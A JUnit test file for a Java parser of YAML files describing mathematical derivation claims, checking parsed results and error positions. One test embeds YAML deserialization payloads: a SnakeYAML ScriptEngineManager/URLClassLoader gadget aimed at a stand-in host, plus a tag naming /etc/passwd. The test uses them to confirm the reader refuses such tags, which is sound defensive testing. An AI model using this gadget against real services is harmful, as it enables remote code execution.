package dev.proofscheck.parse;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.proofscheck.expr.Expr;
import dev.proofscheck.expr.ExprParser;
import dev.proofscheck.expr.Rational;
import dev.proofscheck.model.Claim;
import dev.proofscheck.model.ClaimBody;
import dev.proofscheck.model.Definition;
import dev.proofscheck.model.Derivation;
import dev.proofscheck.model.Direction;
import dev.proofscheck.model.Domain;
import dev.proofscheck.model.Expectation;
import java.util.List;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;

/** The derivation file format: what a good file reads into, and where and how each input error is reported. */
class DerivationReaderTest {

    /** Eight header lines; a file built with {@link #withClaims} has {@code claims:} on line 9, its first claim on line 10. */
    private static final String HEADER = """
            id: t
            title: "T"
            source:
              seed: s.txt
              locator: "l"
            variables:
              x: positive
              y: real
            """;

    private static String withClaims(String claims) {
        return HEADER + "claims:\n" + claims;
    }

    private static final String ONE_GOOD_CLAIM = """
              - id: good
                kind: identity
                lhs: x
                rhs: x
            """;

    private static ParsedFile read(String text) {
        return new DerivationReader().read(text, "f.yaml");
    }

    private static Expr parse(String s) throws Exception {
        return ExprParser.parse(s);
    }

    /** The file's only error; checks file name, line, and that the message contains every phrase. */
    private static InputError onlyError(ParsedFile p, int line, String... phrases) {
        assertEquals(1, p.errors().size(), () -> "expected one error, got " + p.errors());
        InputError e = p.errors().get(0);
        assertEquals("f.yaml", e.position().file(), e::toString);
        assertEquals(line, e.position().line(), e::toString);
        for (String phrase : phrases) {
            assertTrue(e.message().contains(phrase), () -> "message lacks '" + phrase + "': " + e);
        }
        assertTrue(e.toString().startsWith("f.yaml:" + line + ":" + e.position().column() + ": "), e::toString);
        return e;
    }

    private static List<String> claimIds(ParsedFile p) {
        return p.derivation().claims().stream().map(Claim::id).toList();
    }

    // ---------------------------------------------------------------- a good file

    @Test
    void aValidFileWithEveryClaimKindParses() throws Exception {
        String text = """
                # a comment
                id: all-kinds
                title: "Every claim kind"
                source:
                  seed: s.txt
                  locator: "Ch. 1"
                variables:
                  x: positive
                  y: real
                  t:
                    domain: (0, 1)
                    note: "the mapping form"
                  n: integer [1, 20]
                definitions:
                  S[g, w]: g + w^2
                  c: 2 x
                claims:
                  - id: ident
                    index: 003-07-09
                    locator: "eq. (1)"
                    kind: identity
                    lhs: S[x, y] + c
                    rhs: x + y^2 + 2 x
                    domain:
                      t: (0, 1/2]
                  - id: eq
                    kind: equation
                    equation: u^2 == x^2
                    where:
                      u: x
                  - id: lim
                    kind: limit
                    expr: Sin[h]/h
                    var: h
                    at: 0
                    side: above
                    equals: 1
                  - id: ser
                    kind: series
                    expr: Exp[h]
                    var: h
                    at: 0
                    order: 2
                    equals: 1 + h + h^2/2
                  - id: int
                    kind: integral
                    integrand: s^2
                    var: s
                    from: 0
                    to: 1
                    equals: 1/3
                  - id: gauss
                    kind: integral
                    integrand: s^2
                    var: s
                    over: gaussian
                    equals: 1
                  - id: val
                    kind: value
                    expr: Pi
                    equals: 3.14159
                    digits: 5
                  - id: wrong
                    expect: refuted
                    note: "as printed"
                    kind: value
                    expr: EulerGamma
                    equals: 0.5
                """;
        ParsedFile p = new DerivationReader().read(text, "all.yaml");
        assertEquals(List.of(), p.errors());
        Derivation d = p.derivation();
        assertNotNull(d);
        assertEquals("all-kinds", d.id());
        assertEquals("Every claim kind", d.title());
        assertEquals("s.txt", d.source().seed());
        assertEquals("Ch. 1", d.source().locator());
        assertEquals("all.yaml", d.file());

        assertEquals(List.of("x", "y", "t", "n"), d.variables().stream().map(v -> v.name()).toList());
        assertEquals(Domain.RealInterval.open(Rational.ZERO, null), d.variable("x").domain());
        assertEquals(Domain.RealInterval.open(null, null), d.variable("y").domain());
        assertEquals(Domain.RealInterval.open(Rational.ZERO, Rational.ONE), d.variable("t").domain());
        assertEquals(new Domain.IntegerRange(1, 20), d.variable("n").domain());
        assertEquals(8, d.variable("x").position().line());

        assertEquals(2, d.definitions().size());
        Definition s = d.definitions().get(0);
        assertEquals("S", s.name());
        assertEquals(List.of("g", "w"), s.params());
        assertTrue(s.isFunction());
        assertEquals(parse("g + w^2"), s.body());
        assertEquals(15, s.position().line());
        Definition c = d.definitions().get(1);
        assertEquals("c", c.name());
        assertFalse(c.isFunction());
        assertEquals(parse("2 x"), c.body());

        assertEquals(List.of("ident", "eq", "lim", "ser", "int", "gauss", "val", "wrong"), d.claims().stream().map(Claim::id).toList());
        List<Integer> lines = d.claims().stream().map(cl -> cl.position().line()).toList();
        assertEquals(List.of(18, 26, 31, 38, 45, 52, 58, 63), lines);

        Claim ident = d.claims().get(0);
        assertEquals("identity", ident.kind());
        assertEquals("003-07-09", ident.index());
        assertEquals("eq. (1)", ident.locator());
        assertEquals(Expectation.HOLDS, ident.expectation());
        ClaimBody.Identity id = assertInstanceOf(ClaimBody.Identity.class, ident.body());
        assertEquals(parse("S[x, y] + c"), id.lhs(), "expressions are kept as written, definitions not expanded");
        assertEquals(parse("x + y^2 + 2 x"), id.rhs());
        assertEquals(new Domain.RealInterval(Rational.ZERO, false, Rational.of(1, 2), true), ident.domains().get("t"));

        ClaimBody.Equation eq = assertInstanceOf(ClaimBody.Equation.class, d.claims().get(1).body());
        assertEquals(parse("u^2"), eq.lhs());
        assertEquals(parse("x^2"), eq.rhs());
        assertEquals(java.util.Map.of("u", parse("x")), eq.where());

        ClaimBody.Limit lim = assertInstanceOf(ClaimBody.Limit.class, d.claims().get(2).body());
        assertEquals("h", lim.var());
        assertEquals(Direction.ABOVE, lim.direction());
        assertEquals(parse("0"), lim.point());
        assertEquals(parse("1"), lim.value());
        assertEquals(parse("Sin[h]/h"), lim.expr());

        ClaimBody.Series ser = assertInstanceOf(ClaimBody.Series.class, d.claims().get(3).body());
        assertEquals(2, ser.order());
        assertEquals(Direction.BOTH, ser.direction(), "side defaults to both");
        assertEquals(parse("1 + h + h^2/2"), ser.polynomial());

        ClaimBody.Integral in = assertInstanceOf(ClaimBody.Integral.class, d.claims().get(4).body());
        assertFalse(in.gaussian());
        assertEquals("s", in.var());
        assertEquals(parse("0"), in.from());
        assertEquals(parse("1"), in.to());
        assertEquals(parse("1/3"), in.value());

        ClaimBody.Integral g = assertInstanceOf(ClaimBody.Integral.class, d.claims().get(5).body());
        assertTrue(g.gaussian());
        assertEquals(parse("-Infinity"), g.from());
        assertEquals(parse("Infinity"), g.to());
        assertEquals(parse("s^2"), g.integrand());

        ClaimBody.Value val = assertInstanceOf(ClaimBody.Value.class, d.claims().get(6).body());
        assertEquals(5, val.digits());
        assertEquals("3.14159", val.statedText());
        assertEquals(Rational.of(314159, 100000), val.stated());

        Claim wrong = d.claims().get(7);
        assertEquals(Expectation.REFUTED, wrong.expectation());
        assertTrue(wrong.expectsRefutation());
        assertEquals("as printed", wrong.note());
        assertEquals(1, assertInstanceOf(ClaimBody.Value.class, wrong.body()).digits(), "digits default to those written");
    }

    // ---------------------------------------------------------------- YAML-level errors

    @Test
    void badIndentationIsMalformedYamlAtTheOffendingLine() {
        ParsedFile p = read(withClaims("""
                  - id: a
                    kind: identity
                     lhs: x
                    rhs: x
                """));
        assertNull(p.derivation());
        InputError e = onlyError(p, 12, "malformed YAML");
        assertNull(e.claimId());
    }

    @Test
    void anUnclosedQuoteIsReportedWhereTheQuoteStarts() {
        ParsedFile p = read(withClaims("""
                  - id: a
                    kind: identity
                    lhs: "x + y
                    rhs: x
                  - id: b
                    kind: identity
                    lhs: x
                    rhs: x
                """));
        assertNull(p.derivation());
        InputError e = onlyError(p, 12, "malformed YAML", "unclosed");
        assertEquals(10, e.position().column(), "column of the opening quote");
    }

    @Test
    void anEmptyFileIsAnError() {
        for (String text : List.of("", "\n\n", "# only a comment\n")) {
            ParsedFile p = read(text);
            assertNull(p.derivation());
            onlyError(p, 1, "empty file");
        }
    }

    @Test
    void aYamlDuplicateKeyIsAnErrorOfThatClaimOnly() {
        ParsedFile p = read(withClaims("""
                  - id: a
                    kind: identity
                    lhs: x
                    lhs: y
                    rhs: x
                """ + ONE_GOOD_CLAIM.replace("id: good", "id: other")));
        InputError e = onlyError(p, 13, "duplicate key 'lhs'");
        assertEquals("a", e.claimId(), "the error is attributed to the claim it is in");
        assertEquals(List.of("other"), claimIds(p));
    }

    @Test
    void aDuplicateTopLevelKeyMakesTheFileAnError() {
        ParsedFile p = read(HEADER + "title: \"again\"\nclaims:\n" + ONE_GOOD_CLAIM);
        assertNull(p.derivation());
        onlyError(p, 9, "duplicate key 'title'");
    }

    /** Counts constructions, to prove that a tag naming this class never builds one. */
    public static final class Canary {
        static final AtomicInteger CREATED = new AtomicInteger();

        public Canary() {
            CREATED.incrementAndGet();
        }
    }

    @Test
    void javaTagsNeverConstructObjects() {
        String[] files = {
            HEADER.replace("title: \"T\"", "title: !!java.io.File \"/etc/passwd\"") + "claims:\n" + ONE_GOOD_CLAIM,
            HEADER.replace("seed: s.txt", "seed: !!javax.script.ScriptEngineManager "
                    + "[!!java.net.URLClassLoader [[!!java.net.URL [\"http://example.invalid/\"]]]]") + "claims:\n" + ONE_GOOD_CLAIM,
            withClaims("""
                  - !!dev.proofscheck.parse.DerivationReaderTest$Canary
                    id: a
                    kind: identity
                    lhs: x
                    rhs: x
                """),
        };
        int[] taggedLine = {2, 4, 10};
        for (int i = 0; i < files.length; i++) {
            ParsedFile p = read(files[i]);
            assertEquals(0, Canary.CREATED.get(), "an object was constructed from a tag");
            if (p.derivation() == null) {
                // rejected: one ERROR at the tagged node
                InputError e = onlyError(p, taggedLine[i]);
                assertTrue(e.message().toLowerCase(java.util.Locale.ROOT).contains("tag"), e::toString);
            } else {
                // or read as plain data
                Derivation d = p.derivation();
                assertTrue(d.title() instanceof String);
                assertTrue(d.source().seed() instanceof String);
            }
        }
    }

    // ---------------------------------------------------------------- claim errors

    @Test
    void anUnknownClaimKindIsReportedAtTheKindLine() {
        ParsedFile p = read(withClaims("""
                  - id: a
                    kind: identiy
                    lhs: x
                    rhs: x
                """ + ONE_GOOD_CLAIM));
        InputError e = onlyError(p, 11, "unknown claim kind 'identiy'", "identity", "integral");
        assertEquals("a", e.claimId());
        assertEquals(List.of("good"), claimIds(p));
    }

    @Test
    void anUndefinedSymbolIsReportedAtItsExpression() {
        ParsedFile p = read(withClaims(ONE_GOOD_CLAIM + """
                  - id: a
                    kind: identity
                    lhs: x
                    rhs: x + q
                """));
        InputError e = onlyError(p, 17, "unknown symbol 'q'");
        assertEquals("a", e.claimId());
    }

    @Test
    void aSyntaxErrorPointsIntoTheExpression() {
        ParsedFile p = read(withClaims("""
                  - id: open
                    kind: identity
                    lhs: Sqrt[x
                    rhs: x
                  - id: quoted
                    kind: identity
                    lhs: "Sqrt[x"
                    rhs: x
                  - id: middle
                    kind: identity
                    lhs: x + ) + y
                    rhs: x
                """ + ONE_GOOD_CLAIM));
        assertEquals(List.of("good"), claimIds(p));
        assertEquals(3, p.errors().size(), p.errors()::toString);
        InputError open = p.errors().get(0);
        assertEquals(12, open.position().line());
        assertTrue(open.message().contains("syntax error") && open.message().contains("']'"), open::toString);
        // the expression occupies columns 10..15; the missing ']' is noticed right after it
        assertEquals(16, open.position().column(), open::toString);
        InputError quoted = p.errors().get(1);
        assertEquals(16, quoted.position().line());
        assertEquals(17, quoted.position().column(), "the opening quote shifts the expression by one");
        InputError middle = p.errors().get(2);
        assertEquals(20, middle.position().line());
        assertEquals(14, middle.position().column(), "points at the ')'");
        assertTrue(middle.message().contains("unexpected ')'"), middle::toString);
    }

    @Test
    void scientificNotationIsRejectedWithAHint() {
        ParsedFile p = read(withClaims("""
                  - id: a
                    kind: identity
                    lhs: x + 1e-6
                    rhs: x
                """ + ONE_GOOD_CLAIM));
        InputError e = onlyError(p, 12, "10^-6", "scientific notation");
        assertEquals(15, e.position().column(), "points at the 'e'");
        assertEquals(List.of("good"), claimIds(p));
    }

    @Test
    @Timeout(value = 20, unit = TimeUnit.SECONDS, threadMode = Timeout.ThreadMode.SEPARATE_THREAD)
    void scientificNotationInADomainIsRejectedQuickly() {
        // 1e99999999 once made the reader build a 330-million-bit integer (over a minute, 1.4 GB)
        ParsedFile p = read(HEADER.replace("y: real", "y: (0, 1e99999999)") + "claims:\n" + ONE_GOOD_CLAIM);
        assertNull(p.derivation());
        onlyError(p, 8, "variable 'y'", "not a number", "scientific notation");
    }

    @Test
    void aVariableWithoutADomainIsAnError() {
        ParsedFile p = read(HEADER + "  z:\n" + "claims:\n" + ONE_GOOD_CLAIM);
        assertNull(p.derivation());
        onlyError(p, 9, "variable 'z' has no domain");
        ParsedFile q = read(HEADER + "  z:\n    note: \"n\"\n" + "claims:\n" + ONE_GOOD_CLAIM);
        assertNull(q.derivation());
        onlyError(q, 10, "variable 'z' has no domain");
    }

    @Test
    void anUnreadableDomainIsAnError() {
        ParsedFile p = read(HEADER.replace("y: real", "y: positiv") + "claims:\n" + ONE_GOOD_CLAIM);
        assertNull(p.derivation());
        onlyError(p, 8, "variable 'y'", "unreadable domain 'positiv'");
        ParsedFile q = read(HEADER.replace("y: real", "y: (0, one]") + "claims:\n" + ONE_GOOD_CLAIM);
        onlyError(q, 8, "'one' is not a number");
        ParsedFile r = read(HEADER.replace("y: real", "y: integer [1, 99999999999999999999]") + "claims:\n" + ONE_GOOD_CLAIM);
        onlyError(r, 8, "variable 'y'", "integer domain");
    }

    @Test
    void aDuplicateClaimIdKeepsTheOtherClaims() {
        ParsedFile p = read(withClaims(ONE_GOOD_CLAIM + """
                  - id: second
                    kind: identity
                    lhs: y
                    rhs: y
                  - id: good
                    kind: identity
                    lhs: x + y
                    rhs: y + x
                """));
        assertNotNull(p.derivation());
        assertEquals(List.of("good", "second"), claimIds(p));
        InputError e = onlyError(p, 18, "duplicate claim id 'good'");
        assertEquals("good", e.claimId());
    }

    @Test
    void anUnknownKeyInAClaimIsATypo() {
        ParsedFile p = read(withClaims("""
                  - id: a
                    kind: identity
                    lhs: x
                    rsh: x
                """ + ONE_GOOD_CLAIM));
        InputError e = onlyError(p, 13, "unknown key 'rsh'", "allowed:", "rhs");
        assertEquals("a", e.claimId());
        assertEquals(5, e.position().column(), "points at the key");
        assertEquals(List.of("good"), claimIds(p));
    }

    @Test
    void aDefinitionMayNotUseALaterDefinition() {
        ParsedFile p = read(HEADER + """
                definitions:
                  a: b
                  b: a
                claims:
                """ + ONE_GOOD_CLAIM);
        assertNull(p.derivation());
        onlyError(p, 10, "definition 'a'", "unknown symbol 'b'", "earlier definitions");
    }

    @Test
    void aFunctionDefinitionNeedsItsNumberOfArguments() {
        ParsedFile p = read(HEADER + """
                definitions:
                  S[g, w]: g + w
                claims:
                  - id: a
                    kind: identity
                    lhs: S[x]
                    rhs: x
                  - id: b
                    kind: identity
                    lhs: S[x, y]
                    rhs: x + y
                  - id: c
                    kind: identity
                    lhs: S
                    rhs: x
                """);
        assertEquals(List.of("b"), claimIds(p));
        assertEquals(2, p.errors().size(), p.errors()::toString);
        InputError a = p.errors().get(0);
        assertEquals(14, a.position().line());
        assertTrue(a.message().contains("'S' takes 2 arguments, not 1"), a::toString);
        InputError c = p.errors().get(1);
        assertEquals(22, c.position().line());
        assertTrue(c.message().contains("'S' is a function of 2 arguments"), c::toString);
    }

    @Test
    void aBuiltinCannotBeAVariableOrDefinitionName() {
        for (String name : List.of("Pi", "Sqrt", "E")) {
            ParsedFile p = read(HEADER.replace("y: real", name + ": real") + "claims:\n" + ONE_GOOD_CLAIM);
            assertNull(p.derivation());
            onlyError(p, 8, "variable name '" + name + "' is a built-in");
        }
        ParsedFile d = read(HEADER + "definitions:\n  Gamma: x + 1\nclaims:\n" + ONE_GOOD_CLAIM);
        onlyError(d, 10, "definition name 'Gamma' is a built-in");
        ParsedFile v = read(withClaims("""
                  - id: a
                    kind: limit
                    expr: x
                    var: Pi
                    at: 0
                    equals: x
                """ + ONE_GOOD_CLAIM));
        onlyError(v, 13, "var name 'Pi' is a built-in");
        assertEquals(List.of("good"), claimIds(v));
    }

    @Test
    void aClaimDomainMustLieInsideTheVariablesDomain() {
        ParsedFile p = read(withClaims("""
                  - id: a
                    kind: identity
                    lhs: x
                    rhs: x
                    domain:
                      x: (-1, 1)
                  - id: b
                    kind: identity
                    lhs: x
                    rhs: x
                    domain:
                      x: (0, 1]
                  - id: c
                    kind: identity
                    lhs: x
                    rhs: x
                    domain:
                      w: (0, 1]
                """));
        assertEquals(List.of("b"), claimIds(p));
        assertEquals(2, p.errors().size(), p.errors()::toString);
        InputError a = p.errors().get(0);
        assertEquals(15, a.position().line());
        assertTrue(a.message().contains("domain (-1, 1) of 'x' is not inside its declared domain (0, inf)"), a::toString);
        InputError c = p.errors().get(1);
        assertEquals(27, c.position().line());
        assertTrue(c.message().contains("'w', which is not a declared variable"), c::toString);
    }

    @Test
    void anErrorInOneClaimLeavesTheOthers() {
        ParsedFile p = read(withClaims("""
                  - id: first
                    kind: identity
                    lhs: x
                    rhs: x
                  - id: broken
                    kind: equation
                    equation: x + 1
                  - id: third
                    kind: value
                    expr: Pi
                    equals: 3.14
                  - id: fourth
                    kind: limit
                    expr: 1/h
                    var: h
                    at: 0
                    side: sideways
                    equals: Infinity
                  - id: fifth
                    kind: identity
                    lhs: y
                    rhs: y
                """));
        assertNotNull(p.derivation());
        assertEquals(List.of("first", "third", "fifth"), claimIds(p));
        assertEquals(List.of("broken", "fourth"), p.errors().stream().map(InputError::claimId).toList());
        assertEquals(16, p.errors().get(0).position().line());
        assertTrue(p.errors().get(0).message().contains("lhs == rhs"), p.errors()::toString);
        assertEquals(26, p.errors().get(1).position().line());
        assertTrue(p.errors().get(1).message().contains("side must be above, below or both"), p.errors()::toString);
    }
}
